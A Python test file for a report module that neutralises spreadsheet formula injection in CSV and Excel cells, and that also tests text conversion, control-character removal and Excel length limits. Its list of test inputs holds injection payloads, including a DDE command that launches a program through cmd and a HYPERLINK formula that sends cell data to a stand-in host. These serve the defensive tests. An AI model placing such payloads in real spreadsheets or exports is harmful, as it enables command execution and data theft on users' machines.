"""Cells: one way to write a value, and nothing that a spreadsheet runs."""

from datetime import UTC, date, datetime

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cx_text.comment import Polarity
from cx_text.report.cells import CUT_MARK, EXCEL_MAX_UNITS, as_text, csv_cell, excel_cell, neutralise, values_of

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)',
    "  =1+1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\t=1", "\tplain", "\rplain", "\nplain",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u3000＝1", "- bad", "-", "+44 20 7946 0000",
    "-5 -5", "-5\n=1+1", "-5\n", "-٣"]
HARMLESS = ["", "late", "a=b", "5", "-5", "+5", "-5.25", "-1.07e-05", "-2E+3",
            "+3,2", "'=1", "1-2", "mail@shop", " late", "−5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [None, -5, -1.5, True])
def test_what_is_no_text_stays(value):
    assert neutralise(value) is value


@given(st.text())
@example(" \t")
def test_neutralised_text_never_starts_a_formula(text):
    for cell in (csv_cell(text), excel_cell(text)[0]):
        assert not cell.lstrip(" \u00a0\u3000\ufeff").startswith(("=", "@", "\t", "\r", "＝", "＋", "－", "＠"))
        assert neutralise(cell) == cell


@pytest.mark.parametrize(("value", "said"), [
    (None, ""), (float("nan"), ""), (pd.NaT, ""), (pd.NA, ""), (True, "true"), (np.False_, "false"), (9, "9"),
    (9.0, "9"), (-0.0, "0"), (0.1, "0.1"), (np.float32(0.9), "0.9"), (1e-9, "1e-09"), (float("inf"), "inf"),
    (datetime(2024, 5, 1, 9, 30, tzinfo=UTC), "2024-05-01T09:30:00+00:00"),
    (date(2024, 5, 1), "2024-05-01"), (np.int64(3), "3"),
    (pd.Timestamp("2024-05-01"), "2024-05-01T00:00:00"), (["a", 2, None], "a; 2; "), ((), ""), ({"b", "a"}, "a; b"),
    (np.array(["x", "y"], dtype=object), "x; y"), ({"b": 1, "a": "é"}, '{"a": "é", "b": 1}'),
    (Polarity.MIXED, "mixed"), ("half \ud83d", "half \ufffd")])
def test_as_text(value, said):
    assert as_text(value) == said
    assert type(as_text(value)) is str


def test_a_narrow_column_keeps_its_short_numbers():
    assert [as_text(v) for v in values_of(pd.Series([0.9, None], dtype="float32"))] == ["0.9", ""]


def test_csv_has_no_nul():
    assert csv_cell("a\x00b") == "ab"
    assert csv_cell("\x00=1") == "'=1"


def test_excel_has_no_controls_and_one_kind_of_line_end():
    assert excel_cell("a\x01\x0bb\uffff\r\nc\rd\te") == ("ab\nc\nd\te", False)
    assert excel_cell("\x01=1") == ("'=1", False)


@pytest.mark.parametrize(("text", "length"), [("x" * 32_767, 32_767), ("x" * 32_768, 32_767), ("😀" * 16_383, 16_383)])
def test_excel_cells_hold_32767_units(text, length):
    cell, is_cut = excel_cell(text)
    assert (len(cell), is_cut) == (length, length < len(text))


@pytest.mark.parametrize("before", ["", "x"])
def test_a_cut_does_not_halve_an_emoji(before):
    cell, is_cut = excel_cell(before + "😀" * 20_000)
    assert is_cut
    assert cell.endswith("😀" + CUT_MARK)
    assert len(cell.encode("utf-16-le")) // 2 in (EXCEL_MAX_UNITS, EXCEL_MAX_UNITS - 1)
